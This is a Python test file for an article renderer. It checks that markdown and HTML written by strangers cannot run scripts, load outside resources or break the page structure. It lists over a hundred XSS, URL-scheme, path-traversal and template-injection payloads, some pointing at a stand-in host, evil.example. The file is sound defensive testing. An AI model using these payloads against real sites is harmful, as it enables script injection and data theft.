"""Nothing that a stranger writes into an article runs, loads or breaks out."""

from __future__ import annotations

import json

import pytest
from jsonschema import Draft202012Validator

from studio.kb.values import Kind
from studio.render import Setting, parse_article, write_html, write_json
from tests.render.surroundings import FACTS, NOWHERE, RESOLVER, SCHEMA, WORDS, read_strictly, shown

PAYLOADS = [
    "<script>tell()</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>tell()</scr</script>ipt>",
    "<script\n>tell()</script\n>",
    "<script/xss src='x'>tell()",
    "text <script>tell()",
    "<img src=x onerror=tell()>",
    "<img src='a.png' onload='tell()' onerror=\"tell()\">",
    '<img src="a.png" alt="\'><script>tell()</script>">',
    '![" onerror="tell()](a.png)',
    '![x](a.png"onerror="tell())',
    '![x](a.png "\\" onerror=\\"tell()")',
    "![x](javascript:tell())",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/a.png)",
    "![x](https://evil.example/a.png)",
    "![x](../../../../etc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](\\\\evil\\share\\a.png)",
    "[x](javascript:tell())",
    "[x](JaVaScRiPt:tell())",
    "[x](java\tscript:tell())",
    "[x](java&#10;script:tell())",
    "[x](&#x6A;avascript:tell())",
    "[x](\x01javascript:tell())",
    "[x](data:text/html,<script>tell()</script>)",
    "[x](vbscript:tell())",
    "[x](//evil.example)",
    "[x](\\\\evil\\share)",
    "[x](/etc/passwd)",
    "[x](../../secret.html)",
    "[x](https://user:word@evil.example/)",
    "[x](blob:https://evil.example/1)",
    "[x](solved:evil)",
    "[x](article:../../evil)",
    '[x](contact:"onclick=tell())',
    '[x](#a"onclick="tell())',
    '[x](https://e.example/"onclick="tell())',
    "[x]: javascript:tell()\n\n[x]",
    "<javascript:tell()>",
    "<a href=javascript:tell()>x</a>",
    "<a href=' &#14; javascript:tell()'>x</a>",
    "<a href='//evil.example' target=_self>x</a>",
    "<a href='#x' onclick=tell() style='position:fixed'>x</a>",
    "<a href='https://a.example/' title='\"><script>tell()</script>'>x</a>",
    "<a name=solved id=contact href='#y'>x</a>",
    "<a href='#a'><a href='#b'>x</a></a>",
    "[a [b](#c) [1]{charger.png#light}](#d)",
    "<svg onload=tell()><circle r=1></svg>",
    "<svg><script>tell()</script></svg>",
    "<svg><a xlink:href='javascript:tell()'><text>x</text></a></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=tell()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=tell()>",
    "<math href='javascript:tell()'>x</math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action=//evil.example><input name=pin><button formaction=javascript:tell()>x</button></form>",
    "<iframe src=javascript:tell()></iframe>",
    "<iframe srcdoc='<script>tell()</script>'></iframe>",
    "<object data=x.swf><embed src=x.swf></object>",
    "<template><script>tell()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=tell()>'></noscript>",
    "<textarea></textarea><script>tell()</script>",
    "<title><img src=x onerror=tell()></title>",
    "<xmp><script>tell()</script></xmp>",
    "<plaintext><script>tell()</script>",
    "<video src=//evil.example/v onloadstart=tell()><source src=x onerror=tell()></video>",
    "<audio autoplay src=//evil.example/a></audio>",
    "<details open ontoggle=tell()><summary>x</summary>y</details>",
    "<marquee onstart=tell()>x</marquee>",
    "<body onload=tell()><frameset onload=tell()>",
    "<select autofocus onfocus=tell()><option>x</select>",
    "<dialog open>x</dialog><slot name=x></slot><portal src=//evil.example></portal>",
    "<b><p><i></b>x</p></i><table><b><tr><td><p></table>y",
    "<table><script>tell()</script><tr><td onmouseover=tell()>x</table>",
    "<li></ul></ol></div></section></main></body></html>x",
    "</section></div><script>tell()</script>",
    "<!-- --><script>tell()</script> -->",
    "<!--><script>tell()</script>-->",
    "<!-- x --!><script>tell()</script>",
    "x <!-- never closed <script>tell()</script>",
    "<![CDATA[<script>tell()</script>]]>",
    "<?php echo '<script>tell()</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "&lt;script&gt;tell()&lt;/script&gt;",
    "&#60;script&#62;tell()&#60;/script&#62;",
    "&#2;handrail-step:0&#3; &#0; &#xD800; &#x110000;",
    "\x02handrail-step:0\x03\n\n\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    '<handrail-step n="0">x</handrail-step>',
    "<handrail-check><handrail-question>x</handrail-question></handrail-check>",
    '<handrail-mark picture="charger.png" mark="\'><script>">',
    "<p title='<handrail-step n=\"0\">'>x</p>",
    '## x {#x" onmouseover="tell()}',
    "## x {#x'><script>tell()</script>}",
    '## x {#x products="<script>" firmware="><img src=x onerror=tell()>"}',
    "## <script>tell()</script> {#solved}",
    "## a {#contact}\n\n## b {#contact-chat}\n\n## c {#picture-1}\n\n![x](charger.png)",
    "## a {#x-title}\n\n## b {#x}\n\n## c {#x}\n\n### d {#check-1-question}\n\n> [!CHECK] q\n> - [a](#x)",
    '[1]{charger.png#"onclick="tell()} [<b>]{<i>.png#x}',
    "> [!TIP] <script>tell()</script>\n> <img src=x onerror=tell()>",
    '> [!WAIT 5m" onclick="tell()]\n> x',
    "> [!CHECK] <svg onload=tell()>\n> - [<img src=x onerror=tell()>](javascript:tell())\n> - [x](solved:)",
    '```"><script>tell()</script>\n</code></pre><script>tell()</script>\n```',
    "    </code></pre><script>tell()</script>",
    "`</code><script>tell()</script>`",
    "| a |\n|---|\n| <script>tell()</script> <img src=x onerror=tell()> |",
    "<kbd onclick=tell()>x</kbd><code class='language-x\" onclick=tell()'>y</code>",
    "<ol start='1\" onclick=tell()'><li value=x>y</ol><td colspan='9999999999'>z",
    "{{evil}} ![{{evil}}](a.png) [x]({{evil}}) <b title='{{evil}}'>{{evil}}</b>",
    "{% snippet evil %}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "before", ["", "## A step {#a}\n\n", "1. item\n\n    ", "> "], ids=["bare", "step", "item", "quote"]
)
def test_no_payload_gets_through(payload: str, before: str) -> None:
    surroundings = {"variables": {"evil": '"><script>tell()</script>'}, "snippets": {"evil": "<script>tell()</script>"}}
    seen = read_strictly(shown(before + payload + "\n\nafter", **surroundings))
    assert "onclick" not in " ".join(name for _, values in seen.tags for name in values)
    reserved = {"solved", "contact", "contact-chat"} & set(seen.ids)
    assert not reserved


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through_where_nothing_can_be_resolved(payload: str) -> None:
    document = parse_article(payload, Kind.ANSWER, Setting("en"))
    seen = read_strictly(write_html(document, NOWHERE, WORDS))
    assert not [values for tag, values in seen.tags if tag in ("a", "img")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_structure_of_a_payload_keeps_to_the_schema(payload: str) -> None:
    document = parse_article(payload, Kind.HOW_TO, Setting("en"))
    structure = write_json(document, RESOLVER)
    Draft202012Validator(SCHEMA).validate({**FACTS, **structure})
    json.dumps(structure).encode()


def test_what_a_tag_left_open_swallows_ends_with_its_step() -> None:
    seen = read_strictly(shown("<script>tell()\n\n## One {#one}\n\n<div><textarea>\n\n## Two {#two}\n\nStill here."))
    assert "Still here." in seen.text
    assert {"one", "two"} <= set(seen.ids)


def test_a_step_in_a_comment_is_not_shown() -> None:
    seen = read_strictly(shown("<!-- for writers\n\n## Secret {#secret}\n\n-->\n\n## Open {#open}\n"))
    assert "Secret" not in seen.text
    assert "open" in seen.ids
